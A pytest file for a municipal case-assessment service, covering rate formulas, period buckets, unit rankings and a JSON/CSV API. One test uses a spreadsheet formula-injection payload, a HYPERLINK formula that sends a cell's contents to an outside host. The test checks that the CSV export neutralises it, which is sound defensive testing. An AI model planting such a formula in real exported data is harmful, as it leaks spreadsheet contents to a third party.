"""Assessment (考核): each formula on a hand-made month of cases, the period buckets, and the API with its CSV."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest

from gridwatch.contract import event_topic
from server.models import CaseRecord, CaseRound, utcnow
from server.services.assessment import GroupBy, Period, assess, next_period, period_label, period_start, to_csv
from tests.conftest import as_role
from tests.factories import event_payload, wait_until

CST = timezone(timedelta(hours=8))
ZONE = ZoneInfo("Asia/Shanghai")
OPENED = datetime(2026, 11, 3, 9, 0, tzinfo=CST)
NOW = datetime(2026, 11, 30, 12, 0, tzinfo=CST)


def case(status: str, *, unit: str = "sanitation", deadline: float | None = 240, accepted: float | None = None,
         feedback: float | None = None, on_time: bool | None = None, rework: int = 0, extension: int = 0,
         deferred: bool = False, void_reason: str | None = None, opened: datetime = OPENED) -> CaseRecord:
    """A case dispatched when opened; times in minutes after that."""
    at = lambda minutes: opened + timedelta(minutes=minutes) if minutes is not None else None  # noqa: E731
    return CaseRecord(status=status, unit_id=unit, grid_id="WL-02", street_chief_name="李晓梅", node_id="node-a",
                      camera_id="cam-1", opened_at=opened, dispatched_at=opened if deadline else None,
                      deadline_at=at(deadline), accepted_at=at(accepted), feedback_at=at(feedback), on_time=on_time,
                      rework_count=rework, extension_count=extension, was_deferred=deferred, void_reason=void_reason)


MONTH = [
    case("closed", accepted=10, feedback=60, on_time=True),
    case("closed", accepted=20, feedback=90, on_time=False, rework=1, deadline=30),
    case("handling", extension=1, deadline=60),                          # due (past its deadline), open
    case("dispatched", deadline=60 * 24 * 60),                           # not due yet
    case("deferred", deferred=True, deadline=60),                        # due, but deferred
    case("void", void_reason="false_positive", deadline=None),
]


def test_each_indicator_follows_the_citys_formula():
    [row] = assess(MONTH, GroupBy.UNIT, Period.MONTH, ZONE, NOW)
    assert (row.group, row.period) == ("sanitation", "2026-11")
    assert (row.detections, row.cases, row.closed, row.due, row.deferred, row.on_time) == (6, 5, 2, 4, 1, 1)
    assert row.closure_rate == 0.4                       # 2 closed / 5 cases
    assert row.on_time_closure_rate == pytest.approx(1 / 3, abs=1e-4)  # 1 on time / (4 due - 1 deferred)
    assert row.rework_rate == 0.2 and row.extension_rate == 0.2      # 1 / 5 dispatched
    assert row.false_positive_rate == pytest.approx(1 / 6, abs=1e-4)
    assert row.mean_response_minutes == 15 and row.mean_handling_minutes == 60


def test_a_case_deferred_once_and_resumed_counts_like_any_other_against_its_moved_deadline():
    """Found by review: a deferral of a minute, resumed, took a case closed two days late out of the rate (the
    resume had already given the unit its time back), and a deferred case closed on time had read 2.0."""
    deferred_then_closed = [case("closed", accepted=10, feedback=60, on_time=True),
                            case("closed", accepted=10, feedback=60, on_time=True, deferred=True)]
    [row] = assess(deferred_then_closed, GroupBy.UNIT, Period.MONTH, ZONE, NOW)
    assert (row.on_time, row.due, row.deferred, row.on_time_closure_rate) == (2, 2, 0, 1.0)
    late = case("closed", accepted=10, feedback=60 * 50, on_time=False, deferred=True)
    [row] = assess([late], GroupBy.UNIT, Period.MONTH, ZONE, NOW)
    assert (row.due, row.deferred, row.on_time_closure_rate) == (1, 0, 0.0), "late, deferral or not"
    [row] = assess([case("deferred", deferred=True, deadline=60)], GroupBy.UNIT, Period.MONTH, ZONE, NOW)
    assert (row.due, row.deferred, row.on_time_closure_rate) == (1, 1, None), "deferred now: out of the rate"


def test_a_case_the_unit_answered_in_time_is_not_late_while_it_waits_to_be_verified():
    """Found by review: the unit's feedback came 30 minutes before the deadline, the command centre had not yet
    verified it when the deadline passed, and the unit's rate fell to 0 until someone did."""
    answered = case("feedback", accepted=10, feedback=30, deadline=60)
    [row] = assess([answered], GroupBy.UNIT, Period.MONTH, ZONE, NOW)
    assert (row.due, row.on_time_closure_rate) == (0, None), "not due: the wait is the command centre's"
    too_late = case("feedback", accepted=10, feedback=90, deadline=60)
    [row] = assess([too_late], GroupBy.UNIT, Period.MONTH, ZONE, NOW)
    assert (row.due, row.on_time, row.on_time_closure_rate) == (1, 0, 0.0), "it answered after the deadline"


def turn(unit: str, *, deadline: float = 60, ended: float, accepted: float | None = None,
         feedback: float | None = None, closed: bool = False, on_time: bool | None = None) -> CaseRound:
    """A unit's earlier turn at a case opened at OPENED (minutes after it)."""
    at = lambda minutes: OPENED + timedelta(minutes=minutes) if minutes is not None else None  # noqa: E731
    return CaseRound(case_id=7, unit_id=unit, dispatched_at=OPENED, deadline_at=at(deadline), accepted_at=at(accepted),
                     feedback_at=at(feedback), ended_at=at(ended), ended_by="dispatch", closed=closed,
                     on_time=on_time, reworked=0, extended=0)


def test_each_unit_is_credited_with_its_own_turn_at_a_case():
    """Found by review: a unit that returned a case past its deadline, or had it reassigned, left no trace in its
    figures (and the unit that closed it got its reworks); a case closed on time and reopened next month took the
    closure back from the month it was made in."""
    handed_on = case("closed", unit="enforcement", accepted=200, feedback=230, deadline=300, on_time=True)
    handed_on.id = 7
    late_turn = turn("traffic-police", deadline=60, ended=180, accepted=10)
    rows = {row.group: row for row in assess([handed_on], GroupBy.UNIT, Period.MONTH, ZONE, NOW, {7: [late_turn]})}
    police, enforcement = rows["traffic-police"], rows["enforcement"]
    assert (police.cases, police.dispatched, police.due, police.on_time, police.on_time_closure_rate) == \
        (1, 1, 1, 0, 0.0), "held past its deadline, then handed on: late"
    assert police.mean_response_minutes == 10 and police.closed == 0
    assert (enforcement.cases, enforcement.closed, enforcement.due, enforcement.on_time_closure_rate) == (1, 1, 1, 1.0)
    quick_return = turn("traffic-police", deadline=60, ended=20)
    [police] = [row for row in assess([handed_on], GroupBy.UNIT, Period.MONTH, ZONE, NOW, {7: [quick_return]})
                if row.group == "traffic-police"]
    assert (police.due, police.on_time_closure_rate) == (0, None), "a wrong unit handing it on in time is not late"

    reopened = case("dispatched", accepted=None, deadline=60 * 24 * 60)
    reopened.id = 7
    closed_turn = turn("sanitation", ended=60 * 24 * 28, accepted=10, feedback=40, closed=True, on_time=True)
    [row] = assess([reopened], GroupBy.UNIT, Period.MONTH, ZONE, NOW, {7: [closed_turn]})
    # dispatched once: a case counts once in a group's figures, however many of its turns the group had (it read 2,
    # and a case reworked in one of them a rework rate of 0.5)
    assert (row.cases, row.dispatched, row.due, row.on_time, row.on_time_closure_rate) == (1, 1, 1, 1, 1.0), \
        "the closure made on time still counts; the new turn is not yet due"
    assert (row.closed, row.closure_rate) == (1, 1.0), "in the closure rate too (found by review: 0 there)"
    reopened.status = "closed"  # closed again by the same unit: one case, one closure
    [row] = assess([reopened], GroupBy.UNIT, Period.MONTH, ZONE, NOW, {7: [closed_turn]})
    assert (row.cases, row.closed, row.closure_rate) == (1, 1, 1.0)


def test_the_units_of_a_period_are_ranked_by_on_time_closure_then_closure():
    """The quarterly ranking (季度排名) supervisors publish: the best first, equal figures sharing a place, a unit
    with nothing due yet and cases with no unit not ranked; each period on its own."""
    units = {"sanitation": [True, True], "enforcement": [True, False], "traffic": [True, False], "parks": [False]}
    cases = [case("closed", unit=unit, accepted=5, feedback=20, on_time=on_time)
             for unit, times in units.items() for on_time in times]
    cases += [case("dispatched", unit="markets", deadline=90 * 24 * 60), case("closed", unit=None, on_time=True,
                                                                          feedback=5)]
    cases += [case("closed", unit="parks", on_time=True, feedback=5, opened=OPENED + timedelta(days=40))]
    rows = assess(cases, GroupBy.UNIT, Period.MONTH, ZONE, NOW + timedelta(days=40))
    assert {(row.period, row.group): row.rank for row in rows} == {
        ("2026-11", "sanitation"): 1, ("2026-11", "enforcement"): 2, ("2026-11", "traffic"): 2,
        ("2026-11", "parks"): 4, ("2026-11", "markets"): None, ("2026-11", "(none)"): None, ("2026-12", "parks"): 1}


def test_only_exactly_equal_figures_share_a_place():
    """Found by review: rates rounded to four places were ranked, so a unit on time for 106 of 107 cases and one on
    time for 107 of 108 both read 0.9907 and shared the first place, though the second did better (as 25,995 of
    26,000 and 24,996 of 25,000 do, both 0.9998, in a city's quarter); one on time for 214 of 216 is as good."""
    units = {"parks": (106, 107), "markets": (107, 108), "sanitation": (214, 216)}
    cases = [case("closed", unit=unit, accepted=5, feedback=20, on_time=index < on_time)
             for unit, (on_time, closed) in units.items() for index in range(closed)]
    rows = {row.group: row for row in assess(cases, GroupBy.UNIT, Period.MONTH, ZONE, NOW)}
    assert rows["parks"].on_time_closure_rate == rows["markets"].on_time_closure_rate == 0.9907, "as published"
    assert {unit: row.rank for unit, row in rows.items()} == {"markets": 1, "sanitation": 1, "parks": 3}


@pytest.mark.parametrize("by", [GroupBy.GRID, GroupBy.STREET_CHIEF, GroupBy.CAMERA])
def test_a_case_waiting_for_an_operator_is_a_detection_not_one_of_the_groups_cases(by):
    """Found by review: once a case lay in its grid from the start, a detection still waiting for an operator (never
    sent to anyone) counted as one of the grid's and the street chief's cases, halving their closure rate; the
    camera that saw it still read cases 2, closure rate 0.5, where its grid read 1 and 1.0."""
    waiting = case("collected", deadline=None)
    [row] = assess([case("closed", on_time=True, feedback=5), waiting], by, Period.MONTH, ZONE, NOW)
    assert (row.detections, row.cases, row.closure_rate, row.false_positive_rate) == (2, 1, 1.0, 0.0)


def test_two_street_chiefs_of_one_name_are_two_rows():
    """Found by review: chiefs were told apart by name alone, and a district of 494 has two 王伟."""
    cases = [case("closed", on_time=True, feedback=5), case("handling"), case("handling")]
    for chief, phone in zip(cases, ["139-0000-0001", "139-0000-0002", "139-0000-0002"], strict=True):
        chief.street_chief_name, chief.street_chief_phone = "王伟", phone
    rows = assess(cases, GroupBy.STREET_CHIEF, Period.MONTH, ZONE, NOW)
    assert {row.group: row.cases for row in rows} == {"王伟 (139-0000-0001)": 1, "王伟 (139-0000-0002)": 2}


def test_the_csv_quotes_names_a_spreadsheet_would_run_as_formulas():
    """Found by review: a unit or chief named `=HYPERLINK(…)` in the city's files became a live formula in the
    supervisor's spreadsheet."""
    rows = assess([case("closed", unit='=HYPERLINK("http://x/?"&A1,"ok")', on_time=True, feedback=5),
                   case("closed", unit="-sanitation", on_time=True, feedback=5),
                   case("closed", unit="sanitation", on_time=True, feedback=5)], GroupBy.UNIT, Period.MONTH, ZONE, NOW)
    lines = list(csv.DictReader(io.StringIO(to_csv(rows).lstrip("\ufeff"))))
    assert [line["group"] for line in lines] == ["'-sanitation", "'=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
                                                 "sanitation"]
    assert lines[2]["closure_rate"] == "1.0", "numbers as they are"


@pytest.mark.parametrize(
    ("by", "groups"),
    [(GroupBy.UNIT, {"sanitation": 2, "enforcement": 1}), (GroupBy.GRID, {"WL-02": 3}),
     (GroupBy.STREET_CHIEF, {"李晓梅": 3}), (GroupBy.CAMERA, {"node-a/cam-1": 3})],
)
def test_indicators_group_by_chief_unit_grid_and_camera(by, groups):
    cases = [case("closed", on_time=True, feedback=5), case("handling"), case("closed", unit="enforcement",
                                                                               on_time=True, feedback=5)]
    assert {row.group: row.cases for row in assess(cases, by, Period.MONTH, ZONE, NOW)} == groups


@pytest.mark.parametrize(
    ("day", "period", "label", "following"),
    [(date(2026, 11, 23), Period.DAY, "2026-11-23", date(2026, 11, 24)),
     (date(2026, 11, 25), Period.WEEK, "2026-W48", date(2026, 11, 30)),
     (date(2026, 11, 25), Period.MONTH, "2026-11", date(2026, 12, 1)),
     (date(2026, 12, 31), Period.MONTH, "2026-12", date(2027, 1, 1)),
     (date(2026, 11, 25), Period.QUARTER, "2026-Q4", date(2027, 1, 1)),
     (date(2026, 2, 14), Period.QUARTER, "2026-Q1", date(2026, 4, 1)),
     (date(2026, 11, 25), Period.YEAR, "2026", date(2027, 1, 1)),
     (date(2026, 1, 1), Period.YEAR, "2026", date(2027, 1, 1))],
)
def test_periods_start_and_end_where_the_calendar_says(day, period, label, following):
    start = period_start(day, period)
    assert period_label(start, period) == label and next_period(start, period) == following


def test_a_case_counts_in_the_local_day_it_was_opened():
    late = case("closed", opened=datetime(2026, 11, 23, 16, 30, tzinfo=UTC))  # 00:30 on the 24th in CST
    assert [row.period for row in assess([late], GroupBy.UNIT, Period.DAY, ZONE, NOW)] == ["2026-11-24"]


def test_the_assessment_api_answers_json_and_csv_and_the_board_is_public(api, api_tokens, mqtt_client):
    node = mqtt_client("node-a")
    for index in range(3):
        payload = event_payload(category="litter", code="0102", label="garbage", camera_id=f"cam-{index}",
                                location={"lat": 30.2742 + index * 0.001, "lon": 120.1652})
        node.publish(event_topic("node-a", "litter"), json.dumps(payload))
    wait_until(lambda: api.get("/api/v1/cases").json()["total"] == 3)
    api.post("/api/v1/cases/1/actions", json={"action": "accept"})
    api.post("/api/v1/cases/1/actions", json={"action": "feedback"})
    api.post("/api/v1/cases/1/actions", json={"action": "verify"})
    api.post("/api/v1/cases/1/actions", json={"action": "close"})

    supervisor = as_role(api_tokens, "supervisor")
    [row] = api.get("/api/v1/assessment", params={"by": "unit", "period": "day"}, headers=supervisor).json()
    assert row["group"] == "sanitation" and row["cases"] == 3 and row["closed"] == 1
    assert row["closure_rate"] == pytest.approx(1 / 3, abs=1e-4) and row["on_time_closure_rate"] == 1.0
    sheet = api.get("/api/v1/assessment", params={"by": "grid", "period": "month", "format": "csv"},
                    headers=supervisor)
    assert sheet.headers["content-type"] == "text/csv; charset=utf-8"
    assert sheet.content.startswith("\ufeff".encode()), "a byte-order mark: spreadsheets read it as UTF-8"
    [line] = list(csv.DictReader(io.StringIO(sheet.content.decode("utf-8-sig"))))
    assert line["group"] == "WL-02" and line["cases"] == "3" and line["closed"] == "1"
    assert api.get("/api/v1/assessment", headers=as_role(api_tokens, "field_staff")).status_code == 403
    bad = api.get("/api/v1/assessment", params={"from": "2026-11-10", "to": "2026-11-01"}, headers=supervisor)
    assert bad.status_code == 422 and "after" in bad.json()["detail"]

    board = api.get("/public/board", headers={"Authorization": ""}).json()
    [street] = board["streets"]
    assert street["street"] == "武林街道 Wulin Street Office"
    assert {g["street_chief"]: g["phone"] for g in street["grids"]}["王建国 Wang Jianguo"] == "0571-8700-0101"
    assert {u["unit_id"] for u in board["units"]} >= {"sanitation", "traffic-police"}


def test_a_range_is_taken_in_whole_periods_and_says_so_and_reports_have_no_camera(api, api_tokens):
    """Found by review: `from` was moved back to its period's start but `to` was not moved on, so a row labelled
    with a month counted a few days of it; and citizen reports were grouped by camera as `None/None`."""
    for index in range(2):
        payload = event_payload(camera_id=f"cam-{index}", location={"lat": 30.27 + index * 0.01, "lon": 120.16})
        assert api.app.state.ingest.handle(event_topic("node-a", "illegal_parking"),
                                           json.dumps(payload).encode()) == "stored"
    assert api.post("/open311/v2/requests.json", json={"service_code": "litter", "lat": 30.2, "long": 120.1,
                                                       "description": "bags"}).status_code < 300
    with api.app.state.database.session() as session:  # opened on the 11th and 20th, the report on the 25th
        for opened, record in zip((11, 20, 25), session.query(CaseRecord).order_by(CaseRecord.id), strict=True):
            record.opened_at = datetime(2026, 11, opened, 9, 0, tzinfo=CST)
        session.commit()
    answer = api.get("/api/v1/assessment", params={"by": "camera", "period": "month", "from": "2026-11-10",
                                                    "to": "2026-11-12"}, headers=as_role(api_tokens, "supervisor"))
    assert (answer.headers["x-assessment-from"], answer.headers["x-assessment-to"]) == ("2026-11-01", "2026-12-01")
    assert {row["group"]: (row["detections"], row["cases"]) for row in answer.json()} == {
        "node-a/cam-0": (1, 1), "node-a/cam-1": (1, 1), "(none)": (1, 0)}, "the report waits for an operator"
    assert {row["period"] for row in answer.json()} == {"2026-11"}


def test_the_annual_evaluation_is_a_period_of_whole_years_over_three_years_at_most(api, api_tokens):
    """The brief names the annual evaluation (年度考评): the API had days to quarters only, and a range of three
    years was refused (800 days at most)."""
    for index in range(2):
        payload = event_payload(camera_id=f"cam-{index}", location={"lat": 30.27 + index * 0.01, "lon": 120.16})
        assert api.app.state.ingest.handle(event_topic("node-a", "illegal_parking"),
                                           json.dumps(payload).encode()) == "stored"
    with api.app.state.database.session() as session:
        for year, record in zip((2024, 2026), session.query(CaseRecord).order_by(CaseRecord.id), strict=True):
            record.opened_at = datetime(year, 6, 1, 9, 0, tzinfo=CST)
        session.commit()
    supervisor = as_role(api_tokens, "supervisor")
    three_years = {"by": "grid", "period": "year", "from": "2024-03-01", "to": "2026-12-01"}
    answer = api.get("/api/v1/assessment", params=three_years, headers=supervisor)
    assert (answer.headers["x-assessment-from"], answer.headers["x-assessment-to"]) == ("2024-01-01", "2027-01-01")
    assert [(row["period"], row["cases"]) for row in answer.json()] == [("2024", 1), ("2026", 1)]
    sheet = api.get("/api/v1/assessment", params=three_years | {"format": "csv"}, headers=supervisor)
    assert [line["period"] for line in csv.DictReader(io.StringIO(sheet.content.decode("utf-8-sig")))] == \
        ["2024", "2026"]
    assert api.get("/api/v1/assessment", params=three_years | {"period": "month"},
                   headers=supervisor).status_code == 422, "by month, 800 days as before"
    too_long = api.get("/api/v1/assessment", params=three_years | {"from": "2023-01-01"}, headers=supervisor)
    assert too_long.status_code == 422 and "3 years" in too_long.json()["detail"]


@pytest.mark.one_database
def test_the_last_periods_up_to_the_citys_today(api, api_tokens):
    """The console asks for the last few periods (a trend) without naming days: the city's today, not the
    browser's, ends them."""
    today = utcnow().astimezone(ZONE).date()
    answer = api.get("/api/v1/assessment", params={"period": "month", "periods": 6},
                     headers=as_role(api_tokens, "supervisor"))
    first, last = date.fromisoformat(answer.headers["x-assessment-from"]), answer.headers["x-assessment-to"]
    assert last == next_period(period_start(today, Period.MONTH), Period.MONTH).isoformat(), "to the current month"
    assert (first.day, (today.year - first.year) * 12 + today.month - first.month) == (1, 5), "six months"


def test_a_case_returned_late_counts_against_the_unit_that_held_it_and_the_closure_for_the_next(city):
    """The turns as the case engine keeps them: returned past its deadline by one unit, closed by the next."""
    from server.services.assessment import load_cases, load_rounds

    city.detect()  # litter, sure enough to file itself: sanitation, 240 working minutes
    city.clock.advance(hours=5)
    city.act("return", reason="the pile is on the tram company's land")
    city.act("dispatch", unit_id="enforcement")
    for action in ("accept", "feedback", "verify", "close"):
        city.act(action)
    since, until = datetime(2026, 11, 1, tzinfo=CST), datetime(2026, 12, 1, tzinfo=CST)
    with city.database.session() as session:
        rows = {row.group: row for row in assess(load_cases(session, since, until), GroupBy.UNIT, Period.MONTH, ZONE,
                                                 city.clock.now, load_rounds(session, since, until))}
    assert (rows["sanitation"].cases, rows["sanitation"].due, rows["sanitation"].on_time_closure_rate) == (1, 1, 0.0)
    assert (rows["enforcement"].closed, rows["enforcement"].on_time_closure_rate) == (1, 1.0)


def unit_rows(city) -> dict:
    from server.services.assessment import load_cases, load_rounds

    since, until = datetime(2026, 11, 1, tzinfo=CST), datetime(2026, 12, 1, tzinfo=CST)
    with city.database.session() as session:
        return {row.group: row for row in assess(load_cases(session, since, until), GroupBy.UNIT, Period.MONTH, ZONE,
                                                 city.clock.now, load_rounds(session, since, until))}


def test_a_unit_that_returned_a_case_in_time_is_not_late_however_long_the_command_centre_takes(city):
    """Found by review: the unit's turn was judged by when the case was sent on, not when the unit gave it back:
    returned at 10:05, due 14:00, dispatched elsewhere at 15:05, sanitation was charged with a late case, both while
    the case waited in `returned` and after."""
    city.detect()  # litter: sanitation, due 14:00
    city.clock.advance(minutes=5)
    city.act("return", reason="the pile is on the tram company's land")
    city.clock.advance(hours=5)
    assert unit_rows(city)["sanitation"].due == 0, "waiting with the command centre"
    city.act("dispatch", unit_id="enforcement")
    assert unit_rows(city)["sanitation"].due == 0, "sent on late by the command centre"
    assert city.case().returned_at is None, "the new turn has not been returned"


def test_a_unit_whose_feedback_was_in_time_is_on_time_when_the_verified_case_is_reopened(city):
    """Found by review: answered in time and verified, not yet closed, the case reopened at a new detection there;
    the unit's turn was kept as not closed and past its deadline: late, its on-time rate 0."""
    city.clock.now = datetime(2026, 11, 23, 13, 50, tzinfo=CST)
    city.detect()  # due 17:50
    city.clock.now = datetime(2026, 11, 23, 17, 40, tzinfo=CST)
    city.act("accept")
    city.act("feedback")
    city.clock.now = datetime(2026, 11, 23, 18, 10, tzinfo=CST)  # past the deadline when it is checked
    city.act("verify")
    city.clock.now = datetime(2026, 11, 23, 18, 20, tzinfo=CST)
    city.detect()  # seen again at the place: reopened
    assert city.case().status == "dispatched"
    row = unit_rows(city)["sanitation"]
    assert (row.due, row.on_time, row.on_time_closure_rate) == (1, 1, 1.0)


def test_time_deferred_is_neither_the_units_response_nor_its_handling(city):
    """Found by review: a case deferred before the unit accepted it (a parade: three days) counted those days as
    the unit's response time, and a deferral while it was in hand as its handling time."""
    from server.services.assessment import load_cases, load_rounds

    city.detect()  # litter, files itself: dispatched to sanitation
    city.clock.advance(minutes=5)
    city.act("defer", reason="the street is closed for a parade")
    city.clock.advance(days=3)
    city.act("resume")  # the unit is on it from now
    city.clock.advance(minutes=30)
    city.act("defer", reason="waiting for the shop owner to come back")
    city.clock.advance(days=1)
    city.act("resume")
    city.clock.advance(minutes=20)
    city.act("feedback")
    since, until = datetime(2026, 11, 1, tzinfo=CST), datetime(2026, 12, 1, tzinfo=CST)
    with city.database.session() as session:
        [row] = assess(load_cases(session, since, until), GroupBy.UNIT, Period.MONTH, ZONE, city.clock.now,
                       load_rounds(session, since, until))
    assert (row.mean_response_minutes, row.mean_handling_minutes) == (5.0, 50.0)
